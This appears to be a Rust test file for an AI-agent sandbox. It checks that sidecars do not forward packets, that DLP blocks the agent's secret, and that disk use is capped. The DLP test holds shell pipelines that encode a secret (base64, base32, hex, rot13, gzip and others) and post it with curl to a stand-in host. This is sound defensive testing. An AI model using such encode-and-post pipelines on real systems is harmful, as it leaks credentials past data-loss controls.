//! Issue 12's findings about the bottle itself: sidecars never forward packets (H),
//! the agent's own secret values are guarded by DLP (W3), and the agent's disk is
//! capped where the engine allows (W6).

use super::fake_internet::header;
use super::scenarios::{Ctx, curl, expect_status};
use super::sh::{self, cmd};

/// `net.ipv4.ip_forward` is 0 in every sidecar's namespace.
pub fn sidecars_do_not_forward(ctx: &mut Ctx) -> Result<(), String> {
    let a = ctx.a()?;
    let run = ctx.run;
    for role in ["egress", "git-gate", "supervise"] {
        let container = run.container(&a, role)?;
        let out = sh::ok(
            cmd(
                "docker",
                &["exec", &container, "cat", "/proc/sys/net/ipv4/ip_forward"],
            ),
            &run.interrupted,
        )?;
        if out.stdout.trim() != "0" {
            return Err(format!(
                "{role} forwards packets (ip_forward = {})",
                out.stdout.trim()
            ));
        }
    }
    Ok(())
}

/// The agent's `APP_SECRET` (secret: true, may_send_to: [data.fake.test]) is refused on
/// its way to any other allowed host, raw or base64, and reaches data.fake.test.
pub fn agent_secret_guarded(ctx: &mut Ctx) -> Result<(), String> {
    let a = ctx.a()?;
    let run = ctx.run;
    let held = run.agent_sh(&a, "printf %s \"$APP_SECRET\"")?.ok()?;
    if held.stdout != run.app_secret {
        return Err("the agent does not hold APP_SECRET".into());
    }
    // Every spelling DLP knows (issue 12, E2): the agent's shell makes them.
    let s = "printf %s \"$APP_SECRET\"";
    for (what, body) in [
        ("raw", s.to_owned()),
        ("base64", format!("{s} | base64 -w0")),
        ("base32", format!("{s} | base32 -w0")),
        (
            "base32-lower",
            format!("{s} | base32 -w0 | tr A-Z a-z | tr -d ="),
        ),
        ("hex", format!("{s} | od -An -tx1 | tr -d ' \\n'")),
        ("reversed", format!("{s} | rev")),
        ("rot13", format!("{s} | tr A-Za-z N-ZA-Mn-za-m")),
        ("gzip", format!("{s} | gzip")),
    ] {
        let encoding = if what == "gzip" {
            "-H 'content-encoding: gzip' "
        } else {
            ""
        };
        let out = run.agent_sh(
            &a,
            &format!(
                "{body} | curl -sS --max-time 20 -o /dev/null -w '%{{http_code}}' {encoding}--data-binary @- https://api.fake.test/guarded-{what}"
            ),
        )?;
        if out.stdout.trim() != "403" {
            return Err(format!(
                "APP_SECRET ({what}) to api.fake.test was not refused: {}",
                out.explain()
            ));
        }
    }
    if run.net().echo_log_text().contains(&run.app_secret) {
        return Err("APP_SECRET reached api.fake.test".into());
    }
    let allowed = curl(
        run,
        &a,
        &[
            "--data-binary",
            &format!("v={}", run.app_secret),
            "https://data.fake.test/guarded-allowed",
        ],
    )?;
    expect_status(&allowed, 200, "APP_SECRET to data.fake.test (may_send_to)")?;
    let reached = run.net().echo_requests().iter().any(|r| {
        header(r, "host").is_some_and(|h| h.starts_with("data.fake.test"))
            && r["body"]
                .as_str()
                .is_some_and(|b| b.contains(&run.app_secret))
    });
    if !reached {
        return Err("APP_SECRET did not reach data.fake.test, where it may go".into());
    }
    Ok(())
}

/// `limits.disk: 128m`: /tmp is a tmpfs of that size, so filling it stops there.
pub fn disk_capped(ctx: &mut Ctx) -> Result<(), String> {
    let a = ctx.a()?;
    let run = ctx.run;
    let out = run.agent_sh(
        &a,
        "dd if=/dev/zero of=/tmp/fill bs=1M count=200 2>&1; echo rc=$?; du -m /tmp/fill | cut -f1; rm -f /tmp/fill",
    )?;
    let lines: Vec<&str> = out.stdout.lines().collect();
    let written: u64 = lines
        .last()
        .and_then(|l| l.trim().parse().ok())
        .unwrap_or(u64::MAX);
    if !out.stdout.contains("No space left") || written > 128 {
        return Err(format!(
            "writing 200 MiB into /tmp was not stopped at 128 MiB ({written} MiB written): {}",
            out.explain()
        ));
    }
    Ok(())
}
